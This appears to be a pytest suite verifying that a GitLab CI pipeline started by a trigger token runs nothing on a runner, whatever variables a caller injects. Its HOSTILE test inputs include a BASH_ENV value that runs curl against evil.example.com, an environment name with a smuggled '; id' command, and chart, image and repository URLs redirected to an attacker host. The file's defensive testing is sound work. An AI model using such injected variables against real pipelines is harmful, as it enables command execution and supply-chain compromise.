"""A trigger's token: with any variables, its pipeline runs nothing on a runner.

GitLab gives a trigger's variables precedence over all others, over predefined ones as well. It always adds
TRIGGER_PAYLOAD, which a caller cannot set (app/services/ci/pipeline_trigger_service.rb, "Duplicate variable name").
"""

from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.ci.conditions import applies, matches
from tests.ci.test_file import BRIDGES, CHILD, CHILD_FILE, FILE, PIPELINE, TEMPLATES, jobs_of, load
from tests.ci.test_rules import PROVISIONING
from tests.processes import ROOT

ENVIRONMENTS = ("dev", "staging", "prod")
TRIGGER = {"CI_PIPELINE_SOURCE": "trigger", "CI_COMMIT_BRANCH": "main", "CI_DEFAULT_BRANCH": "main"}
PAYLOAD = {"TRIGGER_PAYLOAD": '{"id": "7", "ref": "main"}'}
SOURCES = ("push", "web", "schedule", "merge_request_event", "parent_pipeline", "api", "")
HOSTILE: dict[str, dict[str, str]] = {
    "no variable": {},
    "TF_API": {"TF_API": "https://evil.example.com"},
    "BASH_ENV": {"BASH_ENV": "$(curl https://evil.example.com)"},
    "GIT_URL": {"GIT_URL": "https://evil.example.com/app.git"},
    "CERT_MANAGER_CHART": {"CERT_MANAGER_CHART": "oci://evil.example.com/cert-manager"},
    "SEALED_SECRETS_CHART": {"SEALED_SECRETS_CHART": "oci://evil.example.com/sealed-secrets"},
    "NGINX_INGRESS_CHART": {"NGINX_INGRESS_CHART": "oci://evil.example.com/nginx-ingress"},
    "FLUX_OPERATOR_CHART": {"FLUX_OPERATOR_CHART": "oci://evil.example.com/flux-operator"},
    "MYSQL_IMAGE": {"MYSQL_IMAGE": "evil.example.com/mysql"},
    "PATH": {"PATH": "/builds/evil"},
    "KUBECONFIG": {"KUBECONFIG": "/builds/evil/kubeconfig"},
    "ENVIRONMENT": {"ENVIRONMENT": "prod; id"},
    "TERRAFORM_BACKEND": {"TERRAFORM_BACKEND": "gitlab"},
    "CI_COMMIT_BRANCH": {"CI_COMMIT_BRANCH": "", "CI_DEFAULT_BRANCH": ""},
    **{f"CI_PIPELINE_SOURCE={name}": {"CI_PIPELINE_SOURCE": name, "TERRAFORM_BACKEND": "gitlab"} for name in SOURCES},
}  # fmt: skip


def flat(rules: list[Any]) -> list[dict[str, Any]]:
    """Return rules with those that they refer to."""
    return [each for rule in rules for each in (TEMPLATES[rule[0]]["rules"] if isinstance(rule, list) else [rule])]


def rules_of(job: dict[str, Any]) -> list[dict[str, Any]]:
    """Return the rules of a job, or of a job that it extends."""
    parents = job.get("extends", [])
    for each in (job, *(TEMPLATES[name] for name in reversed([parents] if isinstance(parents, str) else parents))):
        if "rules" in each:
            return flat(each["rules"])
    return [{}]


def created(environment: str, variables: dict[str, str]) -> set[str]:
    """Return the jobs of the pipeline that GitLab creates with these variables."""
    pipeline = load(FILE, environment)
    if not applies(flat(pipeline["workflow"]["rules"]), variables):
        return set()
    return {name for name, job in jobs_of(pipeline).items() if applies(rules_of(job), variables)}


@pytest.mark.parametrize("environment", ENVIRONMENTS)
@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_runs_on_a_runner(environment: str, hostile: str) -> None:
    """With any variables, the pipeline is rejected, or only starts the environment's child pipeline."""
    jobs = created(environment, TRIGGER | HOSTILE[hostile] | PAYLOAD)
    assert jobs <= {f"provision-{environment}"}
    if HOSTILE[hostile].get("CI_PIPELINE_SOURCE", "trigger") == "trigger":
        assert jobs == {f"provision-{environment}"} or "CI_COMMIT_BRANCH" in HOSTILE[hostile]


def test_forged_source_would_run_jobs() -> None:
    """Without GitLab's mark, a forged source would reach the runners: the first rule of `workflow` is needed."""
    assert {"build", "release"} <= created("dev", TRIGGER | HOSTILE["CI_PIPELINE_SOURCE=push"])


@pytest.mark.parametrize("environment", ENVIRONMENTS)
def test_bridge(environment: str) -> None:
    """A bridge gives its child pipeline a literal, and none of its variables."""
    bridge = BRIDGES[f"provision-{environment}"]
    assert f"inputs: {{environment: {environment}}}" in FILE.read_text()
    assert bridge["trigger"] == {
        "include": [{"local": str(CHILD_FILE.relative_to(ROOT)), "inputs": {"environment": environment}}],
        "forward": {"pipeline_variables": False, "yaml_variables": False},
        "strategy": "depend",
    }
    assert not {"variables", "script", "image"} & {*bridge, *TEMPLATES[bridge["extends"]]}


def test_only_these_bridges() -> None:
    """No other job starts a pipeline, and no default or include adds to the jobs of a trigger."""
    assert set(BRIDGES) == {f"provision-{environment}" for environment in ENVIRONMENTS}
    assert "include" not in PIPELINE


@pytest.mark.parametrize("environment", ENVIRONMENTS)
def test_run_pipeline(environment: str) -> None:
    """*Run pipeline* plans, applies and provisions the environment of its input, in this order."""
    web = {"CI_PIPELINE_SOURCE": "web", "CI_COMMIT_BRANCH": "main", "CI_DEFAULT_BRANCH": "main"}
    infrastructure = {"plan", "apply"}
    assert created(environment, web) & {*infrastructure, *BRIDGES} == {f"provision-{environment}"}
    with_state = created(environment, {**web, "TERRAFORM_BACKEND": "gitlab"})
    assert with_state & {*infrastructure, *BRIDGES} == {*infrastructure, f"provision-{environment}"}

    pipeline = load(FILE, environment)
    for name in infrastructure:
        assert pipeline[name]["script"][0].startswith(f"infrastructure/terraform.sh {environment} {name} ")
    assert pipeline["apply"]["needs"] == ["plan"]
    assert TEMPLATES[".provision"]["needs"] == [{"job": "apply", "optional": True}]


@pytest.mark.parametrize("file", [FILE, CHILD_FILE], ids=lambda file: file.name)
def test_input_has_options(file: Path) -> None:
    """Each file names the environments that its input may have; GitLab rejects any other value."""
    header = next(yaml.safe_load_all(file.read_text()))
    assert header["spec"]["inputs"]["environment"]["options"] == list(ENVIRONMENTS)
    assert list(header["spec"]["inputs"]) == ["environment"]


def test_child() -> None:
    """The child pipeline is the six jobs, of the default branch only, and reads nothing of the one that started it."""
    assert set(jobs_of(CHILD)) == PROVISIONING
    assert [rule["if"] for rule in CHILD["workflow"]["rules"]] == ["$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH"]
    assert CHILD[".provisioning"]["variables"] == {"ENVIRONMENT": "dev"}
    assert all(job == {"extends": ".provisioning"} for job in jobs_of(CHILD).values())


@pytest.mark.parametrize(
    ("condition", "variables", "expected"),
    [
        ("$A", {}, False),
        ("$A", {"A": ""}, False),
        ("$A", {"A": "x"}, True),
        ('$A == "x"', {"A": "x"}, True),
        ('$A != "x"', {}, True),
        ('"dev" != "dev"', {}, False),
        ("$A == $B", {}, True),
        ("$A =~ /^(x|y)$/", {"A": "y"}, True),
        ("$A =~ /^(x|y)$/", {}, False),
        ('$A && $B == "x"', {"A": "1", "B": "y"}, False),
        ('$A || $B == "x"', {"A": "1", "B": "y"}, True),
    ],
)
def test_conditions(condition: str, variables: dict[str, str], expected: bool) -> None:  # noqa: FBT001
    """Conditions are true and false as on GitLab."""
    assert matches(condition, variables) is expected
